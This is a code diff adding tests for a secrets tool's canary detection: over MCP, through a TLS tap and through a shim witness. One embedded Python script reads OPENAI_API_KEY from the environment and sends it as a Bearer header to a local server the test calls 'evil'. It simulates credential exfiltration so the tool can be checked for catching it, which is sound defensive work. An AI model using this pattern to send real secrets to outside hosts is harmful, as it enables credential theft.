@@ -213,6 +213,144 @@ class McpCanaryTest(KzTestCase):
         fetch = [x for x in read_jsonl(audit) if x.get("event") == "mcp.call" and x.get("tool") == "fetch"]
         self.assertEqual(fetch[0]["decision"], "deny")
 
+    def test_kill_revokes_the_identity_that_used_it(self):
+        # on_canary = "kill" for MCP: there is no run to end; the identity that used the
+        # canary is revoked: its tokens obtained before (REAL's) and its later calls are
+        # refused from then on.
+        audit = os.path.join(self.dir, "audit.jsonl")
+        url = "https://127.0.0.1:%d/echo" % self.target.port
+        self.config('[secrets]\nOPENAI_API_KEY = { canary = true }\n'
+                    'REAL = { provider = "env", ref = "KZT_REAL", hosts = ["127.0.0.1"] }\n\n'
+                    '[canary]\non_canary = "kill"\n\n'
+                    '[mcp.fetch]\nallow_addresses = ["loopback"]\nca_file = %s\n' % toml_str(self.ca["ca"]))
+        real_fetch = {"tool": "fetch", "arguments": {"url": url, "headers": {"Authorization": "Bearer {{0.token}}"}}}
+        steps = [{"tool": "resolve", "arguments": {"name": "REAL"}},
+                 real_fetch,
+                 {"tool": "resolve", "arguments": {"name": "OPENAI_API_KEY"}},
+                 {"tool": "fetch", "arguments": {"url": url, "headers": {"Authorization": "Bearer {{2.token}}"}}},
+                 real_fetch,
+                 {"tool": "resolve", "arguments": {"name": "REAL"}}]
+        steps_file = self.write("steps.json", json.dumps(steps))
+        p = subprocess.run(["node", os.path.join(SRC, "tests", "mcp", "sdk_client.mjs"), "--steps", steps_file,
+                            "--stdio", "--", KZ, "mcp", "--audit-log", audit],
+                           capture_output=True, text=True, timeout=120, cwd=self.dir,
+                           env=self.env(KZT_REAL="real-mcp-value-0123456789abcdef"))
+        self.assertEqual(p.returncode, 0, p.stderr)
+        out = [s["result"] for s in json.loads(p.stdout)["steps"]]
+        self.assertFalse(out[1].get("isError"), out[1])   # REAL works before
+        self.assertTrue(out[3]["isError"], out[3])         # the canary
+        for after in out[4:]:
+            self.assertTrue(after["isError"], after)
+            self.assertIn("revoked", json.dumps(after))
+        log = read_jsonl(audit)
+        recs = [x for x in log if x.get("event") == "canary"]
+        self.assertEqual(len(recs), 1, recs)
+        self.assertEqual((recs[0]["where"], recs[0]["decision"], recs[0]["severity"]), ("mcp", "kill", "high"))
+        calls = [x for x in log if x.get("event") == "mcp.call"]
+        self.assertEqual([c["decision"] for c in calls[-2:]], ["deny", "deny"], calls)
+        self.assertNoSecret(json.dumps(log), "real-mcp-value-0123456789abcdef", "audit log")
+
+
+# Sends the canary in a header to argv[1] with python's ssl (libssl: the shim's witness
+# sees the write in process).
+PY_SENDER = r"""
+import os, ssl, sys, urllib.request
+ctx = ssl.create_default_context(cafile=sys.argv[2])
+req = urllib.request.Request(sys.argv[1], headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]})
+with urllib.request.urlopen(req, context=ctx, timeout=20) as r:
+    print("status", r.status, flush=True)
+"""
+
+NODE = shutil.which("node")
+CLIENTS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "clients")
+
+
+def _tap_why():
+    from test_sensors import WHY
+    return WHY
+
+
+TAP_WHY = _tap_why()
+
+
+@unittest.skipIf(TAP_WHY, "TLS tap %s" % TAP_WHY)
+class SensorCanaryTest(BlindTestCase):
+    """A standard run with the sensors (root, BPF): a canary written over TLS that neither
+    the shim's hooks nor kz's proxy see is still a "canary" record: where "tap" for a
+    program with its own TLS library (node's bundled OpenSSL), where "witness" for one the
+    shim's witness serves (python's ssl); on_canary = "kill" ends the run (exit 3)."""
+
+    def setUp(self):
+        super().setUp()
+        self.port, self.rec = self.echo_server("tls")
+        self.evil = "https://127.0.0.1:%d" % self.port
+
+    def configure(self, kill):
+        self.blind_config({"API_KEY": {"ref": "KZT_SRC", "hosts": ["localhost"]}},
+                          extra="\n[secrets.OPENAI_API_KEY]\ncanary = true\n" +
+                          ('\n[canary]\non_canary = "kill"\n' if kill else ""))
+
+    def run_std(self, *cmd):
+        env = self.env(KZT_SRC="real-value-for-the-api-0123456789", NODE_EXTRA_CA_CERTS=self.ca["ca"])
+        return self.kz("run", "--audit-log", self.audit_path, "--", *cmd, env=env, timeout=120)
+
+    def diag(self, r):
+        return "kz exit %d\nstdout:\n%s\nstderr:\n%s\naudit:\n%s" % (
+            r.returncode, r.stdout[-3000:], r.stderr[-3000:], self.audit_dump())
+
+    def node(self, path):
+        return self.run_std(NODE, os.path.join(CLIENTS, "node_client.mjs"), "https", self.evil + path,
+                            "OPENAI_API_KEY")
+
+    def assertCanary(self, r, where, decision):
+        recs = self.assertAudited("canary", self.diag(r), secret="OPENAI_API_KEY", where=where)
+        for rec in recs:
+            self.assertEqual(rec["severity"], "high")
+            self.assertEqual(rec["decision"], decision)
+        # A canary is its own record, not a leak that happens to name it.
+        self.assertFalse(self.audit_events("leak", secret="OPENAI_API_KEY"), self.diag(r))
+        return recs
+
+    def assertKilled(self, r, path):
+        self.assertEqual(r.returncode, 3, self.diag(r))
+        self.assertIn("the run was ended", r.stderr)
+        stop = self.assertAudited("run.stop")[-1]
+        self.assertEqual(stop["decision"], "canary")
+        self.assertEqual(stop["exit"], 3)
+        # Refused before encryption: the server never got the request.
+        self.assertFalse(self.records(self.rec, path), self.diag(r))
+
+    @unittest.skipIf(NODE is None, "node is not installed")
+    def test_tap_sees_a_canary_from_a_program_with_its_own_tls(self):
+        self.configure(kill=False)
+        r = self.node("/v1/node-canary")
+        self.assertEqual(r.returncode, 0, self.diag(r))
+        rec = self.assertCanary(r, "tap", "audit")[0]
+        self.assertEqual(rec["exe"], NODE)
+        self.assertEqual(rec["via"], "tls-tap")
+        # The decoy went out (audit mode observes); the log never holds it.
+        sent = self.records(self.rec, "/v1/node-canary")
+        self.assertTrue(sent, self.diag(r))
+        value = json.dumps(sent[0]).split("Bearer ")[1].split('"')[0]
+        self.assertTrue(value.startswith("sk-proj-"), value)
+        self.assertNoSecret(open(self.audit_path).read(), value, "audit log")
+        self.assertNoSecret(r.stdout + r.stderr, value, "kz output")
+
+    @unittest.skipIf(NODE is None, "node is not installed")
+    def test_tap_canary_kills_the_run(self):
+        self.configure(kill=True)
+        r = self.node("/v1/node-kill")
+        self.assertCanary(r, "tap", "kill")
+        self.assertKilled(r, "/v1/node-kill")
+
+    def test_witness_canary_kills_the_run(self):
+        self.configure(kill=True)
+        script = self.write("sender.py", PY_SENDER)
+        r = self.run_std(PY, script, self.evil + "/v1/py-kill", self.ca["ca"])
+        rec = self.assertCanary(r, "witness", "kill")[0]
+        self.assertEqual(rec["via"], "shim")
+        self.assertKilled(r, "/v1/py-kill")
+
 
 if __name__ == "__main__":
     unittest.main()
